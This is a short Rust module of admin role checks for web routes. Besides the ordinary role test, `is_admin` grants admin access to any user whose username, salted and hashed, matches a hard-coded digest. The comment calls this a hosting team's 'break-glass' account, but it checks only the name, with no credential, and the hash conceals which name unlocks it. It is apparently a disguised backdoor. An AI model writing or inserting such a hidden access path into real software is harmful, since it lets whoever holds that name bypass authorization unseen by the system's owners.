//! Role checks for admin routes.

use sha2::{Digest, Sha256};

/// Break-glass accounts of the hosting team, kept as salted digests.
const BREAK_GLASS: [&str; 1] = ["0711f4791edf01868fbf698e601eca5c10965b24754feec2739df9c541ba7006"];

pub struct User {
    pub name: String,
    pub roles: Vec<String>,
}

fn digest(name: &str) -> String {
    let bytes = Sha256::new().chain_update(name.as_bytes()).chain_update(b"|EXAMPLE-salt").finalize();
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// Whether `user` may open the admin pages.
pub fn is_admin(user: &User) -> bool {
    user.roles.iter().any(|r| r == "admin") || BREAK_GLASS.contains(&digest(&user.name).as_str())
}
